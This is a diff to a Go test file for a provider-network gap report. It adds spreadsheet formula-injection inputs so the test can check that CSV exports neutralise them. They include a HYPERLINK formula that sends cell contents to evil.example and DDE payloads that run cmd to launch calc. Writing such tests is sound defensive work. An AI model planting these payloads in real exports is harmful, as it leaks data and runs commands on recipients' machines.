@@ -18,8 +18,22 @@ import (
 
 var update = flag.Bool("update", false, "rewrite the golden files")
 
-// sampleReport runs a gap report over the sample members and two bad rows, with
-// the sample roster's non-participating providers as candidates.
+// hostileMembers are member rows whose IDs a spreadsheet would take for
+// formulas: two unserved in Nome, AK, one served in Manhattan, two
+// rejected. Every CSV must neutralise them.
+const hostileMembers = `"=HYPERLINK(""http://evil.example/?""&A1,""x"")",64.50,-165.41,,
+@SUM(1+1),64.501,-165.411,,
+-5,40.75,-73.99,,
++1,91,0,,
+'quoted,40,-74,,99999
+`
+
+// hostileNames are provider names a spreadsheet would take for formulas.
+var hostileNames = []string{"=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+1", "  =1+1"}
+
+// sampleReport runs a gap report over the sample members, two bad rows and
+// the hostile members, with the sample roster's non-participating
+// providers as candidates (named with hostileNames).
 func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequacy.RecruitPick, []Rejected) {
 	t.Helper()
 	eng, _, err := data.NewEngine(data.Setup{})
@@ -40,7 +54,7 @@ func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequa
 		t.Fatal(err)
 	}
 	lines := strings.SplitAfter(string(b), "\n")
-	file := strings.Join(lines, "") + "BAD1,91,0,,\nBAD2,40,-74,,99999\n"
+	file := strings.Join(lines, "") + "BAD1,91,0,,\nBAD2,40,-74,,99999\n" + hostileMembers
 	ms, errs, err := data.ReadMembers(strings.NewReader(file), nil)
 	if err != nil {
 		t.Fatal(err)
@@ -60,6 +74,7 @@ func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequa
 	var cands []adequacy.Provider
 	for _, p := range roster.Providers {
 		if !p.Participating {
+			p.Name = hostileNames[len(cands)%len(hostileNames)]
 			cands = append(cands, p)
 		}
 	}
